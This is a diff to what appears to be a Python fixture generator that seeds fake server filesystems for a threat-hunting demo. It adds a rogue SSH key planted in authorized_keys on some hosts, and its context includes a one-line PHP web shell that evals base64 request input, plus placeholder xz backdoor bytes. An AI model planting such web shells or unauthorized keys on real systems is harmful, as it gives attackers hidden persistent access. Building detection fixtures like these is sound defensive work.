@@ -15,6 +15,13 @@ PACKAGES = [
     ("openssl", "3.0.14-1~deb12u2", "amd64"),
 ]
 WEBSHELL = b"<?php if(isset($_REQUEST['c'])){ eval(base64_decode($_REQUEST['c'])); } ?>\n"
+ALICE_KEY = (
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJlRxmlwXby+mozwhY7t/kyS4Y9MNRVoQHCyFMlESIck alice@laptop"
+)
+#: A key nobody issued, planted next to Alice's on a few hosts (the sshkey module's demo).
+ROGUE_KEY = (
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIESPO9y9Ac8bLglICyIy+PWpsE1wIA50fhYyOXP8iXQF deploy@ci"
+)
 #: Stand-in bytes for the backdoored library; its sha256 is what the demo hunts for.
 BACKDOOR = b"\x7fELF fake liblzma 5.6.0 with the build-to-host.m4 payload\n"
 
@@ -25,6 +32,10 @@ def has_webshell(index: int) -> bool:
 
 def has_backdoor(index: int) -> bool:
     return index % 10 == 4
+
+
+def has_rogue_key(index: int) -> bool:
+    return index % 6 == 1
 
 
 def xz_version(index: int) -> str:
@@ -39,6 +50,7 @@ def seed_root(root: Path, index: int, name: str) -> None:
         "etc/ssh/sshd_config": b"PermitRootLogin no\nPasswordAuthentication no\n",
         "home/alice/.bashrc": b"export PS1='\\u@\\h:\\w$ '\n",
         "home/alice/notes.txt": b"rotate the backup keys on friday\n",
+        "home/alice/.ssh/authorized_keys": _authorized_keys(index),
         "srv/www/index.html": f"<h1>{name}</h1>\n".encode(),
         "var/log/syslog": f"Nov 29 10:00:00 {name} systemd[1]: Started nginx.\n".encode(),
         "var/lib/dpkg/status": _dpkg_status(index),
@@ -52,6 +64,11 @@ def seed_root(root: Path, index: int, name: str) -> None:
         path = root / relative
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(content)
+
+
+def _authorized_keys(index: int) -> bytes:
+    keys = [ALICE_KEY, *([ROGUE_KEY] if has_rogue_key(index) else [])]
+    return ("\n".join(keys) + "\n").encode()
 
 
 def _passwd(index: int) -> bytes:
